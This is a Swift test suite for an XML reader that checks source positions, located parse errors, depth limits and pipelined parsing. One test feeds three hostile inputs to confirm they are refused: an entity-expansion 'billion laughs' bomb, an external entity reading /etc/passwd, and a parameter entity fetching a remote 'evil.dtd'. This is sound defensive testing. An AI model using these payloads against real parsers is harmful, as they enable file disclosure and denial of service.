import Testing
@testable import SettingsKit

/// expat reads XML into elements with positions; entities are never expanded or fetched.
@Suite struct XMLReaderTests {
    static func read(_ text: String, maxDepth: Int = 256) -> Result<XMLElement, XMLProblem> {
        XMLReader.read(Array(text.utf8), maxDepth: maxDepth)
    }

    @Test func elementsAttributesAndTextCarryTheirPositions() throws {
        let text = "<?xml version=\"1.0\"?>\n<screen title=\"设置\">\n  <row 名字=\"x\"\n       key=\"k\">通用 &amp; 隐私</row>\n</screen>\n"
        let root = try Self.read(text).get()
        #expect(root.name == "screen" && root.start == Mark(line: 2, column: 1))
        #expect(root.attribute("title")?.value == "设置" && root.attribute("title")?.start == Mark(line: 2, column: 9))
        let row = try #require(root.children.first)
        #expect(row.start == Mark(line: 3, column: 3))
        #expect(row.attribute("名字")?.start == Mark(line: 3, column: 8))
        #expect(row.attribute("key")?.start == Mark(line: 4, column: 8))
        #expect(row.text == "通用 & 隐私" && row.textStart == Mark(line: 4, column: 16))
    }

    /// Attribute values that look like attributes (`a="x b=y"`), single quotes, `>` and line
    /// breaks in values: each name is still found where it starts.
    @Test func attributeNamesAreFoundPastValuesThatLookLikeThem() throws {
        let text = "<r a=\"x b=y\" b = 'it\"s > c=\"z\"'\n   c=\"line\nbreak\"\td='1'/>"
        let root = try Self.read(text).get()
        #expect(root.attributes.map(\.name) == ["a", "b", "c", "d"])
        #expect(root.attributes.map(\.start) == [Mark(line: 1, column: 4), Mark(line: 1, column: 14), Mark(line: 2, column: 4), Mark(line: 3, column: 8)])
        #expect(root.attribute("b")?.value == "it\"s > c=\"z\"")
    }

    /// An XML "billion laughs" and an external entity are refused at their declaration, in bounded time.
    @Test(arguments: [
        "<!DOCTYPE d [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\">]>\n<d>&c;</d>",
        "<!DOCTYPE d [\n<!ENTITY x SYSTEM \"file:///etc/passwd\">]>\n<d>&x;</d>",
        "<!DOCTYPE d [<!ENTITY % p SYSTEM \"http://example.com/evil.dtd\"> %p;]>\n<d/>",
    ])
    func entitiesAreNeverExpanded(_ text: String) {
        guard case .failure(let problem) = Self.read(text) else {
            Issue.record("an entity was accepted")
            return
        }
        #expect(problem.message.contains("entit") && problem.mark.line >= 1, "\(problem.message)")
    }

    @Test func anUndeclaredEntityIsALocatedError() {
        guard case .failure(let problem) = Self.read("<d>\n  <e>&x;</e>\n</d>") else { Issue.record("accepted"); return }
        #expect(problem.message == "XML: undefined entity" && problem.mark == Mark(line: 2, column: 6), "\(problem)")
    }

    @Test func malformedXMLIsLocated() {
        guard case .failure(let problem) = Self.read("<a>\n<b></a>") else { Issue.record("accepted"); return }
        // Reported at the element left open, not at its parent's end tag.
        #expect(problem.message == "<b> opened here is never closed (the </a> at 2:4 closes its parent)" && problem.mark == Mark(line: 2, column: 1), "\(problem)")
    }

    /// A nested element of its parent's name left open takes the parent's end tag, and the file
    /// ends with the parent open: reported where the end tag's indentation says, not at the root.
    @Test func aNestedElementOfItsParentsNameLeftOpenIsFoundByIndentation() {
        let text = "<s>\n  <p/>\n  <s>\n  <p/>\n  <c>\n    <p/>\n  </c>\n</s>\n"
        guard case .failure(let problem) = Self.read(text) else { Issue.record("accepted"); return }
        #expect(problem.message == "<s> opened here is never closed: the end tag at line 8, indented as an outer element's, closes it, and the file ends first"
                    && problem.mark == Mark(line: 3, column: 3), "\(problem)")
        // Indented alike throughout, the file says no more than that it ends with the root open.
        guard case .failure(let flat) = Self.read("<s>\n<s>\n<p/>\n</s>\n") else { Issue.record("accepted"); return }
        #expect(flat.message == "<s> opened here is never closed: the file ends first" && flat.mark == Mark(line: 1, column: 1), "\(flat)")
    }

    /// The external DTD a property list names is not fetched; the document reads as usual.
    @Test func anExternalDTDIsNotFetched() throws {
        let text = "<!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" \"http://www.apple.com/DTDs/PropertyList-1.0.dtd\">\n<plist/>"
        #expect(try Self.read(text).get().name == "plist")
    }

    @Test func nestingIsBounded() {
        let deep = String(repeating: "<a>", count: 300) + String(repeating: "</a>", count: 300)
        guard case .failure(let problem) = Self.read(deep, maxDepth: 256) else { Issue.record("accepted"); return }
        #expect(problem.isLimit && problem.message.contains("256"))
    }

    /// Every event a handler sees, with its mark and attributes, as one string per event.
    final class Recorder: XMLHandler {
        var events: [String] = []
        /// The start tag, counted from 1, whose report throws.
        var stopAt: Int?
        private var opened = 0

        func open(_ tag: XMLStartTag) throws(XMLProblem) {
            events.append("<\(tag.name) \(tag.start) \(tag.attributes.map { "\($0.name)=\($0.value)@\($0.start)" })")
            opened += 1
            if opened == stopAt { throw XMLProblem(message: "stop", mark: tag.start) }
        }
        func characters(_ text: UnsafeRawBufferPointer, at position: XMLPosition) {
            events.append("\(String(decoding: text, as: UTF8.self).debugDescription) \(position.mark)")
        }
        func close() { events.append(">") }
    }

    /// Enough elements for many batches, wide text, attributes, an entity: what a large file holds.
    static let large: String = {
        var text = "<?xml version=\"1.0\"?>\n<screen>\n"
        for i in 0..<5_000 { text += "  <row key=\"k\(i)\" 名字='设置 \(i)'>通用 &amp; 隐私 \(i)<empty/></row>\n" }
        return text
    }()

    static func recorded(_ text: String, pipelined: Bool, stopAt: Int? = nil) -> (events: [String], problem: XMLProblem?) {
        let recorder = Recorder()
        recorder.stopAt = stopAt
        let problem = XMLReader.read(Array(text.utf8), maxDepth: 256, into: recorder, pipelined: pipelined)
        return (recorder.events, problem)
    }

    /// Large documents are parsed on a second thread: the handler sees the very same events, marks
    /// and problems as from one thread, across every batch boundary.
    @Test(arguments: [nil, "<broken>", "<!ENTITY x 'y'>"])
    func aPipelinedReadReportsTheSameEvents(ending: String?) {
        let text = Self.large + (ending ?? "") + "</screen>\n"
        let one = Self.recorded(text, pipelined: false)
        let two = Self.recorded(text, pipelined: true)
        #expect(one.events.count > 4 * XMLEventBatch.capacity)
        #expect(one.events == two.events)
        #expect(one.problem?.message == two.problem?.message && one.problem?.mark == two.problem?.mark)
        #expect((one.problem == nil) == (ending == nil), "\(String(describing: one.problem))")
    }

    /// A handler that stops the read stops the parsing thread too: nothing more is reported.
    @Test(arguments: [false, true])
    func aHandlersProblemEndsTheRead(pipelined: Bool) {
        let (events, problem) = Self.recorded(Self.large + "</screen>", pipelined: pipelined, stopAt: 3_000)
        #expect(problem?.message == "stop")
        #expect(events.last?.hasPrefix("<row") == true && events.filter { $0.hasPrefix("<") }.count == 3_000)
    }
}
